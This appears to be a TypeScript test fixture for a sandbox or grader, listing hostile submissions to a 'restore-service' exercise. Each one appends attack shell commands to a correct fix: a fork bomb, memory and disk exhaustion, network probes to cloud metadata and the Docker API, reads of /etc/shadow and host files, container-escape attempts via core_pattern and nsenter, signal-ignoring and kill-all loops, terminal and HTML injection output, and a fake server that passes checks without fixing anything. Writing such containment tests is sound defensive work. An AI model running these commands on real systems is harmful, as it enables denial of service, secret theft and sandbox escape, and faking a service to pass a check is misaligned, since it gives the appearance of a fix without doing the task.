import { filesAt, neverEnds, type Hostile, type Target } from './hostile.ts';
import { solutionOf } from './known.ts';

const path = 'fix.sh';
const solution = (solutionOf('restore-service')[path] ?? '').replace('set -eu', '');
const file = filesAt(path);

/** The solution, and then what is hostile. */
const fix = (name: string, tries: string, most: number, text: string | ((target: Target) => string)): Hostile =>
  file(name, tries, most, (target) => `${solution}\n${typeof text === 'string' ? text : text(target)}\n`);

/** Hostile submissions of the exercise `restore-service`: one script each, run as the user of a server. */
export const hostileFixes: readonly Hostile[] = [
  fix('fix-fork-bomb', 'have as many processes as there can be', 100, 'f() { f | f & }; f; exit 0'),
  fix(
    'fix-memory-and-disk',
    'take all memory, and fill every place that can be written',
    100,
    `for d in /run /dev/shm /dev/mqueue /var/tmp /srv; do head -c 1G /dev/zero >$d/full; done 2>&1
(head -c 4G /dev/zero | tail) & wait; exit 0`,
  ),
  fix(
    'fix-reaches-out',
    'connect to the host, the internet, the engine and other services',
    100,
    ({
      hosts,
      port,
    }) => `for a in ${hosts.map((host) => `${host}/${port}`).join(' ')} 169.254.169.254/80 8.8.8.8/53 172.17.0.1/2375; do
  timeout 1 bash -c "exec 3<>/dev/tcp/$a" 2>/dev/null && echo reached-$a-outside
done
timeout 2 getent hosts example.com && echo reached-dns-outside; exit 0`,
  ),
  fix(
    'fix-host-files',
    'read files of the host',
    100,
    ({ secret, trace }) => `cat ${secret} /proc/1/root${secret} /proc/1/cwd${secret} /etc/shadow 2>&1
ls -la /var/run/docker.sock /proc/*/fd 2>&1 | tail -n 5; unshare -Urm sh -c 'mount -t tmpfs n /mnt && echo reached-mount-outside' 2>&1
echo '|/bin/touch ${trace}' >/proc/sys/kernel/core_pattern; nsenter -t 1 -a touch ${trace}; touch ${trace}; exit 0`,
  ),
  fix(
    'fix-deaf',
    'never end, and stay when it is told to go',
    95,
    `trap '' TERM INT HUP QUIT
for i in $(seq 50); do (trap '' TERM; setsid sleep ${neverEnds}) & done
while :; do sleep 1; done`,
  ),
  fix('fix-kills-all', 'end everything around it, again and again', 95, 'while :; do kill -9 -1; kill -STOP 1; done'),
  fix(
    'fix-output',
    'write without end what terminals, pages and tables might obey',
    100,
    `printf '\\033]0;owned\\007\\033[2J<script>alert(1)</script>]]><x>\\n=cmd|calc!A0\\n\\342\\200\\256evil\\n'
timeout 3 yes "$(head -c 900 /dev/zero | tr '\\0' x)"; timeout 3 yes "$(head -c 900 /dev/zero | tr '\\0' x)" >/proc/1/fd/1; exit 0`,
  ),
  file(
    'fix-answers-itself',
    'answer in the place of Nginx and the application, and mend neither',
    40,
    `rm -f /tmp/core.dump
setsid node -e 'require("http").createServer((request, response) => response.end("ok")).listen(80)' </dev/null >/dev/null 2>&1 &
sleep 1; exit 0`,
  ),
];
